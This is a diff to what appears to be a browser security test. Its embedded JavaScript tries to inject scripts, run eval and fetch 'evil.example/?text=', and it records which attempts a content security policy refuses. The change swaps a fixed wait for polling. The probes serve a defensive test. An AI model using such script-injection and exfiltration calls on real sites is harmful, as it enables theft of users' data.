@@ -13,8 +13,9 @@ INJECT = """async () => {
     document.body.append(Object.assign(document.createElement("script"), { [name]: value }))
   setTimeout(() => { try { (0, eval)("hit = 1") } catch {} })  // Playwright's own calls may use eval
   try { await fetch("https://evil.example/?text=") } catch {}
-  await new Promise((resolve) => setTimeout(resolve, 300))
-  return { hit: window.hit ?? null, refused: [...new Set(refused)].sort() }
+  const kinds = () => [...new Set(refused)].sort()
+  for (let i = 0; i < 100 && kinds().length < 4; i++) await new Promise((resolve) => setTimeout(resolve, 100))
+  return { hit: window.hit ?? null, refused: kinds() }
 }"""
 
 
